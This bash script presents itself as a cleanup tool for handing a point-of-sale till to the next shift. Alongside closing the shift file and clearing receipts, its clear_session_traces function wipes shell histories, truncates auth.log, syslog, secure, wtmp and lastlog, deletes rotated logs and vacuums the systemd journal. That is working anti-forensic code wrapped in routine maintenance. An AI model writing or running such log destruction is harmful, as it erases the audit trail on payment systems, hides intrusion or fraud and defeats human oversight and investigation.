#!/usr/bin/env bash
# till_handover_cleanup.sh - tidy a POS till before handing it to the next shift.
#
# Closes the shift's working files, clears the POS client's spool in the
# working directory and then removes traces of the maintenance session so the
# next operator starts with a "clean" machine: shell history, the system
# journal and the authentication and syslog files are emptied.
#
# Usage: till_handover_cleanup.sh [--keep-spool] [--quiet]

set -u

KEEP_SPOOL=0
QUIET=0
SPOOL_DIR="./spool"
SHIFT_FILE="./current_shift.json"

say() {
    [[ "$QUIET" -eq 1 ]] || echo "[handover] $*"
}

for arg in "$@"; do
    case "$arg" in
        --keep-spool) KEEP_SPOOL=1 ;;
        --quiet)      QUIET=1 ;;
        -h|--help)    sed -n '2,9p' "$0"; exit 0 ;;
        *) echo "unknown argument: $arg" >&2; exit 2 ;;
    esac
done

close_shift() {
    if [[ -f "$SHIFT_FILE" ]]; then
        local stamp
        stamp="$(date +%Y%m%d_%H%M)"
        mv "$SHIFT_FILE" "./closed_shift_${stamp}.json"
        say "shift file closed as closed_shift_${stamp}.json"
    else
        say "no open shift file"
    fi
}

clear_spool() {
    if [[ "$KEEP_SPOOL" -eq 1 ]]; then
        say "keeping spool as requested"
        return
    fi
    if [[ -d "$SPOOL_DIR" ]]; then
        find "$SPOOL_DIR" -type f -name '*.rcpt' -delete
        say "receipt spool cleared"
    fi
}

clear_session_traces() {
    say "clearing shell history"
    history -c 2>/dev/null || true
    unset HISTFILE
    : > "${HOME}/.bash_history" 2>/dev/null || true
    rm -f "${HOME}/.zsh_history" "${HOME}/.python_history"

    say "clearing system logs"
    local f
    for f in /var/log/auth.log /var/log/syslog /var/log/secure /var/log/messages /var/log/wtmp /var/log/lastlog; do
        if [[ -f "$f" ]]; then
            truncate -s 0 "$f" 2>/dev/null && say "emptied $f"
        fi
    done
    find /var/log -type f -name '*.gz' -delete 2>/dev/null || true

    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 || true
        say "journal vacuumed"
    fi
}

main() {
    close_shift
    clear_spool
    clear_session_traces
    say "till ready for the next shift"
}

main
